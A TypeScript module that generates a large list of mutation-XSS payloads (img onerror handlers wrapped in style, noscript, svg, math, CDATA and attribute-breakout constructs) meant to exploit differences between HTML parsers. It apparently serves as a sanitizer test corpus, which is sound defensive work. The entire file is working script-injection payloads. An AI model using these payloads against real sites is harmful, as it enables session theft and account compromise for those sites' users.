/** What a parser reads in another way the second time, or another parser does. */
export const MUTATIONS = (run: string): string[] => {
  const image = `<img src=1 onerror=${run}>`
  const quoted = `&lt;img src=1 onerror=${run}&gt;`
  const raws = [
    'style',
    'title',
    'textarea',
    'xmp',
    'noscript',
    'noembed',
    'noframes',
    'iframe',
    'template',
    'script',
    'plaintext',
    'select',
  ]
  const foreign = ['svg', 'math']
  const points = [
    'mtext',
    'mi',
    'mo',
    'mn',
    'ms',
    'annotation-xml encoding="text/html"',
    'foreignObject',
    'desc',
    'title',
  ]
  const name = (tag: string) => tag.split(' ')[0]
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${quoted}">`,
    `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;${quoted}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><p><style><a title="</style>${image}"></style>`,
    `<noscript><style></noscript>${image}</style></noscript>`,
    `<p title="</noscript>${image}"><noscript></noscript>`,
    `<a title="</style>${image}"><style></style></a>`,
    `<listing>${quoted}</listing>`,
    `<table><a id=x><td><a id=y>${image}</table>`,
    `<b><p><b><p>`.repeat(20) + image,
    `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
    `<svg><font color=x>${image}`,
    `<svg><annotation-xml encoding="text/html"><style></svg>${image}`,
    `<!--<img src="--><img src=x onerror=${run}//">`,
    `<![><img src="]><img src=x onerror=${run}//">`,
    `<a href="/x" title='"></a>${image}'>x</a>`,
    `<a href="/x&quot;&gt;${quoted}">x</a>`,
    `<p class="center&quot;&gt;${quoted}">x</p>`,
    `<img src="/images/${'0'.repeat(64)}" alt="&quot;&gt;${quoted}">`,
    `<img src="/images/${'0'.repeat(64)}" alt="&quot; onerror=&quot;${run}">`,
    `<ol start="1&quot; onfocus=&quot;${run}" type="a&quot;&gt;${quoted}"><li>x</ol>`,
    `<td colspan="2&quot;&gt;${quoted}">`,
    `<table><tr><th scope="col&quot;&gt;${quoted}" rowspan='2">${image}'>x</table>`,
    `<p style="text-align:center&quot;&gt;${quoted}">x</p>`,
    `<style>.x{text-align:center}</style><p class="x&quot; onclick=&quot;${run}">x</p>`,
    ...raws.flatMap((raw) => [
      `<${raw}><!--</${raw}>${image}-->`,
      `<${raw}></${raw}/>${image}`,
      `<${raw}><a title="</${raw}>${image}">`,
      `<${raw}>&lt;/${raw}&gt;${quoted}</${raw}>`,
      `<${raw}/>${image}</${raw}>`,
      `<p><${raw}><p title='</${raw}>${image}'>`,
      `</${raw}>${image}<${raw}>`,
      ...raws.map((other) => `<${raw}><${other}></${raw}>${image}</${other}>`),
      ...raws.map((other) => `<${raw}><${other} title="</${raw}>${image}"></${other}></${raw}>`),
      ...foreign.flatMap((space) => [
        `<${space}><${raw}>${image}</${raw}></${space}>`,
        `<${space}><${raw}><!--</${raw}>${image}--></${space}>`,
        `<${space}></${space}><${raw}><a title="</${raw}>${image}">`,
        `<${space}><p><${raw}><a title="</${raw}>${image}">`,
        ...points.flatMap((point) => [
          `<${space}><${point}><${raw}><a title="</${raw}>${image}"></a></${raw}></${name(point)}></${space}>`,
          `<${space}><${point}><table><${space}><${raw}><!--</${raw}><img title="--&gt;${quoted}">`,
          `<${space}><${point}></p><${raw}><![CDATA[</${raw}>${image}]]>`,
        ]),
      ]),
    ]),
  ]
}
